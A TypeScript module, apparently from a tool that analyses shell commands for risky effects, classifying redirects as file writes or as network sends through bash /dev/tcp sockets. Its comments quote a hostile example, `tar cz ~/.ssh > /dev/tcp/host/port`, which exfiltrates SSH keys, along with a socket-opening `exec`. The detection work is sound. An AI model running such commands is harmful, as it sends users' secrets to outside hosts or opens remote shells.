import { secretOrigin } from "../../expand/secret-origin.js";
import { type Arg, isKnown, unknown } from "../../model/arg.js";
import type { Call, Redirect } from "../../model/call.js";
import { type Effect, type HttpEffect, opaqueEffect, plainEffect } from "../../model/effect.js";
import type { World } from "../../model/world.js";
import { appending, overwriting, toolName } from "../file-effects.js";
import { isRawHttp } from "../http/raw-http.js";
import { sentSecrets } from "../http/sent-files.js";
import { readSent, type Socket } from "../http/sent-text.js";
import { isWithin, resolvePath } from "../path.js";
import { effects, join, nothing, type Reading } from "../reader.js";
import { givenShell, isShellName } from "../shell/hand-over.js";
import { overwritingUnknown } from "./unforeseen.js";

/** What the shell itself opens for a call, before the program starts. No shim sees it: unknown words are asked about. */
export function readRedirects(call: Call, world: World, sockets: Sockets = new Map()): Reading {
  if (call.redirects.length === 0) return nothing;
  return join(
    effects(...call.redirects.flatMap((redirect) => readRedirect(call, world, redirect))),
    readSockets(call, world, sockets),
  );
}

/** Where descriptors lead that `exec 3<>/dev/tcp/host/port` has opened. */
export type Sockets = Map<string, Socket>;

/** What goes out over `/dev/tcp`, or over a descriptor that was opened before, is read as if nc sent it. */
function readSockets(call: Call, world: World, sockets: Sockets): Reading {
  for (const { operator, target, descriptor } of call.redirects) {
    const socket = findSocket(target);
    if (socket !== undefined) {
      if (toolName(call) === "exec") sockets.set(String(descriptor ?? "any"), socket);
      const name = toolName(call).replace(/^.*\//, "");
      if (isShellName(name)) return effects(givenShell(name, `${socket.host}:${socket.port}`));
      // What cat is given is nc's.
      const isCat = toolName(call) === "cat" && call.argv.length > 1;
      return join(readSent(call, socket), isCat ? nothing : sentOutput(call, world, socket));
    }
    const isDescriptor = operator === ">&" && isKnown(target) && /^([3-9]|\d\d+)$/.test(target);
    const isHeld = operator === ">&" && (!isKnown(target) || target === "");
    if (isDescriptor || isHeld) {
      // `exec {fd}>…` takes the first that is free from ten on.
      const held = (isDescriptor ? sockets.get(target) : undefined) ?? sockets.get("any");
      return join(
        readSent(call, undefined, isRawHttp),
        held === undefined ? nothing : sentOutput(call, world, held),
      );
    }
  }
  return nothing;
}

/** `tar cz ~/.ssh > /dev/tcp/host/port`: what it prints tells of secrets. */
function sentOutput(call: Call, world: World, { host }: Socket): Reading {
  const origin = secretOrigin(call, world);
  if (origin === undefined) return nothing;
  return effects(...sentSecrets(call, world, toolName(call), { host, texts: [unknown("stdout", origin)] }));
}

function readRedirect(call: Call, world: World, redirect: Redirect): readonly Effect[] {
  const { operator, target } = redirect;
  const socket = findSocket(target);
  if (socket !== undefined) return [{ ...sending(call, socket), span: redirect.span }];
  switch (operator) {
    case "<":
    case "<&":
      return [];
    case ">&":
      // `2>&1` and `2>&-` copy or close a descriptor; `>&file` writes both streams to a file.
      if (isKnown(target) && /^(\d+-?|-)$/.test(target)) return [];
      if (!isKnown(target) && redirect.descriptor !== undefined && target.prefix === "") return [];
      break;
    default:
  }
  const path = resolvePath(call, world, target);
  if (path === undefined) return [];
  if (!isKnown(path)) {
    const { prefix, source, reason, shape } = path;
    const isTemporary = world.session.temporary.some((folder) => isWithin(prefix, `${folder}/`));
    if (isTemporary && !prefix.includes("/..") && shape !== "climbing") return [];
    if (operator === ">>" || operator === "&>>") return [];
    const foreseen = overwritingUnknown(call, world, path);
    if (foreseen !== undefined) return foreseen.map((effect) => ({ ...effect, span: redirect.span }));
    const because = `cannot tell which file it would overwrite: ${reason}`;
    return [{ ...opaqueEffect(toolName(call), source, because), span: redirect.span }];
  }
  // `<>` cuts nothing off, but `echo x 1<> f` writes over what stands there; without a number it is for reading.
  const keeps = operator === ">>" || operator === "&>>" || (operator === "<>" && !redirect.descriptor);
  const write = keeps ? appending : overwriting;
  return write(toolName(call), path, world).map((effect) => ({ ...effect, span: redirect.span }));
}

/** bash opens these itself: `> /dev/tcp/host/port` is a network connection, not a file. */
function findSocket(target: Arg): Socket | undefined {
  const match = /^\/dev\/(?:tcp|udp)\/([^/]+)\/(.+)$/.exec(isKnown(target) ? target : target.prefix);
  const [, host, port] = match ?? [];
  return host === undefined || port === undefined ? undefined : { host, port };
}

function sending(call: Call, { host, port }: { readonly host: string; readonly port: string }): HttpEffect {
  return {
    ...plainEffect(toolName(call), "send", `${host}:${port}`),
    resource: "http",
    method: "TCP",
    host,
    path: "",
    because: "the shell opens a network connection of its own",
  };
}
